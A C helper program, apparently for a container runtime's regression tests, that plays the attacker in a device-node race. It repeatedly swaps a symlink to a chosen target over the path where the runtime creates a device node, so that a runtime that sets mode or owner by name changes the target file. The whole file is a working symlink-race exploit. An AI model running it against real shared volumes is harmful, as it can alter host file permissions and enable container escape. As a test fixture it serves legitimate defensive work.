/* replace-race: the attacker of the device-node race, for
 * tests/bats/reach.bats (issue 11). Plays a container sharing a volume
 * with a container that is being created: it keeps renaming a fresh
 * symlink to TARGET over DIR/NAME, the path where the runtime creates a
 * device node, as fast as it can, until the file STOP appears, then prints
 * how many times it did. A runtime that sets the node's mode or owner by
 * name after mknod follows the link and changes TARGET.
 * Usage: replace-race DIR NAME TARGET STOP */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char tmp[4096];
	if (argc != 5) {
		fprintf(stderr, "usage: replace-race DIR NAME TARGET STOP\n");
		return 2;
	}
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) {
		perror(argv[1]);
		return 1;
	}
	snprintf(tmp, sizeof(tmp), ".%s.link", argv[2]);
	unsigned long replaced = 0;
	for (;;) {
		if (symlinkat(argv[3], dir, tmp) < 0 && errno != EEXIST) {
			perror("replace-race: symlinkat");
			return 1;
		}
		if (renameat(dir, tmp, dir, argv[2]) == 0)
			replaced++;
		if (replaced % 256 == 0 && access(argv[4], F_OK) == 0)
			break;
	}
	printf("%lu\n", replaced);
	return 0;
}
